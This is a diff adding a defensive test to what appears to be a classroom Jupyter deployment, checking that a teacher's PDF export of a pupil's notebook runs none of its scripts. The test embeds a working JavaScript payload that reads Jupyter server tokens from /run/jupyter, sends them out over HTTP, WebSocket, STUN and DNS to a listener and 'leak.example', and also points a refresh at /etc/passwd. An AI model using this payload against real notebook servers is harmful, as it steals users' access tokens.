@@ -177,6 +177,117 @@ def test_pdf_export_of_an_accented_notebook_with_a_figure_and_a_formula(stack, p
     student.stop_server()
 
 
+#: A student's output that, printed by a teacher, looks for the teacher's server file in the
+#: runtime folders, shows what it found on the page and sends it out every way a page can: HTTP,
+#: WebSocket, WebRTC's UDP, DNS (an image from a host name). PORT is the student's listener.
+STEAL_TOKEN = """
+var out = document.createElement('pre'); document.body.appendChild(out); out.textContent += 'SCRIPT-RAN ';
+function get(url) { var x = new XMLHttpRequest(); x.open('GET', url, false); x.send(); return x.responseText; }
+try {
+  var found = get('file:///run/jupyter/').match(/\\d+(?=\\/)/g) || [];
+  found.forEach(function (uid) {
+    (get('file:///run/jupyter/' + uid + '/').match(/jpserver-\\d+\\.json/g) || []).forEach(function (name) {
+      var token = JSON.parse(get('file:///run/jupyter/' + uid + '/' + name)).token;
+      out.textContent += 'TOKEN=' + token + ' ';
+      fetch('http://127.0.0.1:PORT/' + token);
+      new WebSocket('ws://127.0.0.1:PORT/' + token);
+      new Image().src = 'http://' + token + '.leak.example/';
+    });
+  });
+} catch (e) { out.textContent += 'blocked '; }
+var pc = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:PORT'}]});
+pc.createDataChannel('x'); pc.createOffer().then(function (o) { pc.setLocalDescription(o); });
+"""
+
+#: Listens as the student on TCP and UDP PORT until told STOP; prints what else it received.
+LISTENER = r"""
+import os, select, socket, sys
+port = int(sys.argv[1])
+tcp = socket.socket(); tcp.bind(("127.0.0.1", port)); tcp.listen(8)
+udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); udp.bind(("127.0.0.1", port))
+open(f"/tmp/listening-{port}", "w").close()
+received = []
+while True:
+    ready, _, _ = select.select([tcp, udp], [], [], 120)
+    if not ready:
+        break
+    if tcp in ready:
+        conn, _ = tcp.accept(); conn.settimeout(2)
+        try: received.append(("tcp", conn.recv(500)))
+        except OSError: received.append(("tcp", b""))
+        conn.close()
+    if udp in ready:
+        data = udp.recv(2000)
+        if data == b"STOP":
+            break
+        received.append(("udp", data))
+print(repr(received))
+"""
+
+
+def hostile_submission(port: int) -> str:
+    """A pupil's notebook whose outputs and Markdown carry STEAL_TOKEN in every form that does not
+    look like a script (an SVG's onload, an image's onerror) and in those that do."""
+    import nbformat
+
+    steal = STEAL_TOKEN.replace("PORT", str(port))
+    inline = steal.replace('"', "&quot;").replace("\n", " ")
+    long_line = "resultat = " + "valeur_longue + " * 30 + "1"
+    nb = nbformat.reads(notebook(long_line, markdown=["# Devoir\n\n$\\Delta = b^2 - 4ac$\n\n"
+                                                    f'<img src="x" onerror="{inline}">']), as_version=4)
+    nb.cells[1].outputs = [
+        nbformat.v4.new_output("display_data", data={
+            "text/html": f'<b>tableau</b><svg onload="{inline}"><circle r="5"/></svg>', "text/plain": "t"}),
+        nbformat.v4.new_output("display_data", data={
+            "text/html": f"<div>carte</div><script>{steal}</script>", "text/plain": "<folium.folium.Map at 0x7f>"}),
+        nbformat.v4.new_output("display_data", data={"application/javascript": steal}),
+        nbformat.v4.new_output("display_data", data={
+            "text/html": '<meta http-equiv="refresh" content="0;url=file:///etc/passwd">', "text/plain": "m"}),
+        nbformat.v4.new_output("stream", name="stdout", text=long_line + "\n"),
+    ]
+    return nbformat.writes(nb)
+
+
+def test_printing_a_pupils_notebook_as_pdf_neither_reads_nor_sends_the_teachers_files(stack, people):
+    """Issue 20, point 1: a teacher prints a pupil's hostile notebook. No script of the notebook
+    runs (the formula is still typeset), no file is read, nothing reaches the pupil's listener, and
+    what needs scripts is replaced by the French note."""
+    import threading
+
+    from pypdf import PdfReader
+
+    teacher, student = people["prof.nsi"], people["eleve.a"]
+    teacher.start_server()
+    port = 47000 + int(time.time()) % 1000
+    heard = {}
+    listener = threading.Thread(target=lambda: heard.update(
+        out=student.run("/opt/venv/bin/python", "-c", LISTENER, str(port), timeout=200).stdout))
+    listener.start()
+    try:
+        deadline = time.monotonic() + 30
+        while stack.exec("hub", "test", "-e", f"/tmp/listening-{port}", check=False).returncode != 0:
+            assert time.monotonic() < deadline, "the pupil's listener did not start"
+            time.sleep(0.2)
+        teacher.run("/opt/venv/bin/python", "-c", "import sys; open(sys.argv[1], 'w').write(sys.stdin.read())",
+                    f"/home/{teacher.name}/copie-eleve.ipynb", input=hostile_submission(port))
+        r = teacher.api("GET", f"/user/{teacher.name}/nbconvert/pdf/copie-eleve.ipynb?download=true", timeout=180)
+    finally:
+        time.sleep(2)  # what Chromium sent on its way out has arrived
+        stack.exec("hub", "/opt/venv/bin/python", "-c", "import socket, sys; socket.socket(socket.AF_INET, "
+                   "socket.SOCK_DGRAM).sendto(b'STOP', ('127.0.0.1', int(sys.argv[1])))", str(port))
+        listener.join(60)
+    assert r.status_code == 200 and r.content.startswith(b"%PDF"), (r.status_code, r.text[:500])
+    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(r.content)).pages)
+    assert heard.get("out", "").strip() == "[]", heard  # nothing at all reached the pupil
+    assert "SCRIPT-RAN" not in text and "TOKEN=" not in text and "root:x:0" not in text, text
+    assert "Devoir" in text and "\\Delta" not in text, text  # MathJax, the exporter's own script, ran
+    assert text.count("a besoin de JavaScript") == 2, text  # the script output and the JavaScript one
+    # The long line, as code and as output, wraps between words instead of being cut.
+    assert "tableau" in text and text.count("valeur_longue") == 60, text
+    exporters = teacher.api("GET", f"/user/{teacher.name}/api/nbconvert").json()
+    assert "pdf" in exporters and not {"webpdf", "qtpdf", "qtpng"} & set(exporters), sorted(exporters)
+
+
 def kernel_import(user, module):
     """module.__version__ in a new kernel of user, or the error's name."""
     out = run_notebook(user, notebook(f"try:\n    import {module}\n    print({module}.__version__)\n"
